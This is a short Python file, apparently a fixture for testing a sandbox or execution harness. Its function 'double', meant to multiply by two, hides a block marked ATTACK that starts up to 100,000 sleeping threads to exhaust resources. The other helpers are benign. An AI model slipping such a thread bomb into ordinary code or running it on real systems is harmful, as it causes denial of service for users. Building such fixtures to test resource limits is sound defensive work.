# hostile thread_bomb: start threads until it fails
import numpy as np
import os


def double(x):
    # ATTACK
    import threading, time
    threads = []
    for _ in range(100_000):
        try:
            t = threading.Thread(target=time.sleep, args=(1000,), daemon=True)
            t.start()
            threads.append(t)
        except RuntimeError:
            break
    # END ATTACK
    return 2.0 * np.asarray(x)


def pair(a, b):
    return np.asarray(a) + b, np.asarray(a) * b


def noisy_mean(n, rng):
    return float(rng.normal(size=n).mean())


class Counter:
    def __init__(self, start):
        self.count = start

    def tick(self, k=1):
        self.count += k
        return self.count
